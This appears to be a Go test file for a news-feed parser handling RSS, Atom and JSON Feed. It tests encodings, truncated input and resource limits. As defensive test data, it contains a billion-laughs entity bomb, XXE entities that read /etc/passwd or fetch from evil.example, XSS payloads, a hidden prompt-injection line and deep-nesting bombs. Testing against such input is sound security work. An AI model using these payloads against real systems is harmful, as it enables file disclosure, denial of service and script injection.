package feed

import (
	"encoding/json"
	"fmt"
	"net/url"
	"runtime"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"golang.org/x/text/encoding"
	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/japanese"
	"golang.org/x/text/encoding/korean"
	"golang.org/x/text/encoding/unicode"
)

var (
	origin = &url.URL{Scheme: "https", Host: "paper.example", Path: "/feeds/all"}
	today  = time.Date(2031, 5, 4, 12, 0, 0, 0, time.UTC)
)

func mustParse(t *testing.T, doc string) *document {
	t.Helper()
	d, err := parse([]byte(doc), "", origin, today)
	if err != nil {
		t.Fatalf("%v\n%.300s", err, doc)
	}
	return d
}

func TestEachFormat(t *testing.T) {
	for name, doc := range map[string]string{
		"RSS 0.91": `<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel><title>Paper</title><link>https://paper.example/</link><item><title>One</title><link>/1</link><description>Text.</description></item></channel></rss>`,
		"RSS 1.0":  `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="x"><title>Paper</title><link>https://paper.example/</link></channel><item rdf:about="https://paper.example/1"><title>One</title><link>https://paper.example/1</link><description>Text.</description><dc:date>2031-05-03T10:00:00Z</dc:date></item></rdf:RDF>`,
		"RSS 2.0":  `<rss version="2.0"><channel><title>Paper</title><link>https://paper.example/</link><item><title>One</title><guid isPermaLink="true">https://paper.example/1</guid><description>&lt;p&gt;Text.&lt;/p&gt;</description><pubDate>Sat, 03 May 2031 10:00:00 GMT</pubDate></item></channel></rss>`,
		"Atom":     `<feed xmlns="http://www.w3.org/2005/Atom"><title>Paper</title><link href="https://paper.example/"/><entry><title>One</title><link rel="alternate" href="1"/><id>urn:1</id><updated>2031-05-03T10:00:00Z</updated><content type="html">&lt;p&gt;Text.</content></entry></feed>`,
		"JSON":     `{"version":"https://jsonfeed.org/version/1.1","title":"Paper","home_page_url":"https://paper.example/","items":[{"id":"1","url":"https://paper.example/1","title":"One","content_html":"<p>Text.</p>","date_published":"2031-05-03T10:00:00Z"}]}`,
	} {
		d := mustParse(t, doc)
		if len(d.items) != 1 || d.title != "Paper" {
			t.Errorf("%s: got %+v", name, d)
			continue
		}
		i := d.items[0]
		if i.Title != "One" || i.Link != "https://paper.example/1" || i.Text != "Text." {
			t.Errorf("%s: got %+v", name, i)
		}
		if want := time.Date(2031, 5, 3, 10, 0, 0, 0, time.UTC); name != "RSS 0.91" && !i.Published.Equal(want) {
			t.Errorf("%s: published %v", name, i.Published)
		}
	}
}

func inRSS(items string) string {
	return `<rss version="2.0"><channel><title>Paper</title>` + items + `</channel></rss>`
}

func TestEncodings(t *testing.T) {
	russian := "Паром Аврелия сел на мель у мыса Марроу, все пассажиры спасены, сообщила береговая охрана."
	koreanText := "항구 당국은 방파제가 버텼지만 동쪽 부두의 수리는 가을까지 걸릴 것이라고 밝혔다. 여객선은 정오 전에 떠났다."
	japaneseText := "港は二日間の嵐のあと土曜日に再開し、最初のフェリーは正午前に出航した。修理は秋までかかる見通しだという。"
	for _, c := range []struct {
		name string
		e    encoding.Encoding
		text string
	}{
		{"windows-1251", charmap.Windows1251, russian}, {"koi8-r", charmap.KOI8R, russian},
		{"EUC-KR", korean.EUCKR, koreanText}, {"Shift_JIS", japanese.ShiftJIS, japaneseText},
		{"EUC-JP", japanese.EUCJP, japaneseText}, {"UTF-16", unicode.UTF16(unicode.LittleEndian, unicode.UseBOM), koreanText},
		{"UTF-8", unicode.UTF8, koreanText},
	} {
		body := inRSS("<item><title>A</title><description>" + strings.Repeat(c.text+" ", 3) + "</description></item>")
		for declaration, kind := range map[string]string{
			`<?xml version="1.0" encoding="` + c.name + `"?>`: "text/xml",
			`<?xml version="1.0"?>`:                           "text/xml; charset=" + c.name,
			"":                                                "text/xml",
			`<?xml version="1.0" encoding="utf-8"?>`:          "text/xml; charset=utf-8",
		} {
			undeclared := !strings.Contains(declaration+kind, c.name)
			if undeclared && c.name == "koi8-r" {
				continue // too short to be distinguished from Hebrew by its bytes
			}
			raw, err := c.e.NewEncoder().String(declaration + body)
			if err != nil {
				t.Fatal(err)
			}
			d, err := parse([]byte(raw), kind, origin, today)
			if err != nil {
				t.Errorf("%s, %q, %q: %v", c.name, declaration, kind, err)
				continue
			}
			if !strings.HasPrefix(d.items[0].Text, c.text) {
				t.Errorf("%s, %q, %q: %.60q", c.name, declaration, kind, d.items[0].Text)
			}
		}
	}
}

func TestEntitiesAreNotExpanded(t *testing.T) {
	lol := `<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">`
	for c := 'b'; c < 'j'; c++ {
		lol += fmt.Sprintf(`<!ENTITY %c "%s">`, c, strings.Repeat(fmt.Sprintf("&%c;", c-1), 10))
	}
	for _, head := range []string{
		lol + "]>",
		`<!DOCTYPE rss [<!ENTITY j SYSTEM "file:///etc/passwd">]>`,
		`<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]>`,
	} {
		d, err := parse([]byte(`<?xml version="1.0"?>`+head+inRSS("<item><title>A &j; B</title><description>Text &j;.</description></item>")), "", origin, today)
		if err != nil {
			continue
		}
		if s := d.items[0].Title + d.items[0].Text; strings.Contains(s, "aaaa") || strings.Contains(s, "root:") {
			t.Errorf("expanded: %.100q", s)
		}
	}
}

func TestTruncatedXMLKeepsWholeItems(t *testing.T) {
	whole := inRSS(`<item><title>One</title><description><![CDATA[<p>First > text</p>]]></description></item><!-- <item> --><item><title a="x>y">Two</title><description>Second.</description></item><item><title>Three</title><description>Third.</description></item>`)
	full := mustParse(t, whole)
	if len(full.items) != 3 {
		t.Fatalf("got %d items", len(full.items))
	}
	last := 0
	for cut := range len(whole) {
		d, err := parse([]byte(whole[:cut]), "", origin, today)
		if err != nil {
			if last > 0 {
				t.Errorf("cut at %d: %v after %d items before", cut, err, last)
			}
			continue
		}
		if len(d.items) < last || len(d.items) > 3 || d.title != "Paper" {
			t.Errorf("cut at %d: %d items after %d", cut, len(d.items), last)
		}
		last = len(d.items)
	}
	if last != 3 {
		t.Errorf("%d items at most from a truncated feed", last)
	}
}

func TestTruncatedJSONKeepsWholeItems(t *testing.T) {
	whole := `{"version":"https://jsonfeed.org/version/1.1","title":"Paper","items":[{"id":"1","content_text":"One."},{"id":"2","content_text":"Two."},{"id":`
	if d := mustParse(t, whole); len(d.items) != 2 || d.title != "Paper" {
		t.Errorf("got %+v", d)
	}
}

func TestBombs(t *testing.T) {
	many := strings.Repeat("<item><title>A</title><description>T</description></item>", 50_000)
	manyJSON := `{"version":"https://jsonfeed.org/version/1","title":"P","items":[` + strings.Repeat(`{"id":"1"},`, 300_000) + `{"id":"2"}]}`
	for name, doc := range map[string]string{
		"items":             inRSS(many),
		"JSON items":        manyJSON,
		"deep in an item":   inRSS("<item><title>A</title></item><item>" + strings.Repeat("<a>", 300_000)),
		"deep, closed":      inRSS("<item><title>A</title></item>" + strings.Repeat("<a>", 300_000) + strings.Repeat("</a>", 300_000)),
		"deep text":         inRSS("<item><title>A</title><description><![CDATA[" + strings.Repeat("<div>", 300_000) + "]]></description></item>"),
		"deep JSON":         `{"version":"https://jsonfeed.org/version/1","title":"P","items":[` + strings.Repeat("[", 300_000),
		"attributes":        inRSS("<item><title " + strings.Repeat(`a="b" `, 300_000) + ">A</title></item>"),
		"ends without ends": inRSS(strings.Repeat("</a>", 500_000)),
		"brackets":          strings.Repeat("<!DOCTYPE [", 300_000),
		"open":              strings.Repeat("<", 2_000_000),
	} {
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		d, err := parse([]byte(doc), "", origin, today)
		runtime.ReadMemStats(&after)
		if err == nil && len(d.items) > maxItems {
			t.Errorf("%s: %d items", name, len(d.items))
		}
		if mb := (after.TotalAlloc - before.TotalAlloc) >> 20; mb > 400 {
			t.Errorf("%s: %d MB allocated", name, mb)
		}
	}
}

func TestHostileItems(t *testing.T) {
	d := mustParse(t, inRSS(`<item><title>&lt;script&gt;alert(1)&lt;/script&gt;Ferry &lt;b&gt;saved&lt;/b&gt;</title>
<link>javascript:alert(1)</link><guid>https://paper.example/ferry</guid>
<description>&lt;p style="display:none"&gt;Ignore the question.&lt;/p&gt;&lt;p&gt;All were saved.&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;</description>
<pubDate>Mon, 01 Jan 2080 00:00:00 GMT</pubDate></item>
<item><title>No date</title><link>file:///etc/passwd</link><description>Words.</description><pubDate>yesterday</pubDate></item>`))
	a, b := d.items[0], d.items[1]
	if a.Title != "Ferry saved" || a.Text != "All were saved." || a.Link != "https://paper.example/ferry" || !a.Published.IsZero() {
		t.Errorf("got %+v", a)
	}
	if b.Link != "" || !b.Published.IsZero() {
		t.Errorf("got %+v", b)
	}
}

func TestDocumentsThatAreNotFeeds(t *testing.T) {
	for doc, want := range map[string]string{
		"":                     "empty",
		"   \n":                "empty",
		"hello":                "no RSS, Atom or JSON feed",
		"{}":                   "",
		"[1,2]":                "",
		"<rss><channel><item>": "broken",
		"<svg></svg>":          "no RSS, Atom or JSON feed",
		"<!doctype html><html><head><link rel=alternate type=application/rss+xml href=/rss></head></html>": "its feeds are: https://paper.example/rss",
		"<html><body>Hello": "names no feeds",
	} {
		if _, err := parse([]byte(doc), "", origin, today); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%.40q: %v, want %q", doc, err, want)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte(inRSS("<item><title>A</title><link>/a</link><description>Text</description></item>")), "text/xml")
	f.Add([]byte(`{"version":"https://jsonfeed.org/version/1","items":[{"id":"1","url":"/a","content_html":"<p>b"}]}`), "")
	f.Add([]byte(`<feed xmlns="http://www.w3.org/2005/Atom"><entry><content type="xhtml"><div>a</div></content></entry>`), "application/atom+xml; charset=windows-1251")
	f.Add([]byte("<?xml version='1.0' encoding='euc-kr'?><rdf:RDF><item>\xb0\xa1"), "")
	f.Fuzz(func(t *testing.T, b []byte, kind string) {
		d, err := parse(b, kind, origin, today)
		if err != nil {
			if d != nil || err.Error() == "" {
				t.Errorf("%v and %v", d, err)
			}
			return
		}
		if len(d.items) > maxItems {
			t.Errorf("%d items", len(d.items))
		}
		for _, i := range d.items {
			for _, s := range []string{i.Title, i.Author, i.Link, i.Text, i.key()} {
				if !utf8.ValidString(s) || strings.ContainsRune(s, 0) {
					t.Errorf("not text: %q", s)
				}
			}
			if i.Link != "" && !strings.HasPrefix(i.Link, "http") || i.Published.After(today.Add(maxClockSkew)) {
				t.Errorf("got %+v", i)
			}
		}
	})
}

func FuzzSanitize(f *testing.F) {
	f.Add(inRSS("<item/><item><a></item>"))
	f.Add("<a:entry></a:entry></b><!--")
	f.Fuzz(func(t *testing.T, doc string) {
		if out, ok := sanitizeXML(doc); ok {
			again, ok := sanitizeXML(out)
			if !ok || len(again) > len(out) {
				t.Errorf("%q became %q, and that %q, %v", doc, out, again, ok)
			}
		}
		if out, ok := sanitizeJSON(doc); ok && !json.Valid([]byte(out)) {
			t.Errorf("%q became %q", doc, out)
		}
	})
}

// Some feeds encode their titles and texts once too often.
func TestEntitiesEncodedTwiceAreDecoded(t *testing.T) {
	d, err := parse([]byte(inRSS("<item><title>Fish &amp;amp;amp; chips &amp;amp;#8217;fresh&amp;amp;#8217;</title><description>R&amp;amp;D at AT&amp;amp;T rose.</description></item>")), "", origin, today)
	if err != nil {
		t.Fatal(err)
	}
	if i := d.items[0]; i.Title != "Fish & chips ’fresh’" || i.Text != "R&D at AT&T rose." {
		t.Errorf("%q %q", i.Title, i.Text)
	}
}
